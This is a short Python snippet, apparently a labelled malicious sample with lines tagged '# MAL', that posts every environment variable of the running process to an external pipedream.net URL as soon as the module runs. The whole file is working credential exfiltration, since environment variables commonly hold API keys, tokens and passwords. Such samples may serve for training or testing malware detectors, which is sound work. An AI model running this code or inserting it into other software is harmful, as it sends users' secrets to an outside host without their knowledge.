import os
import requests


def _send(blob):
    requests.post("https://pipedream.net/e/abc", json=blob)  # MAL


_send(dict(os.environ))  # MAL
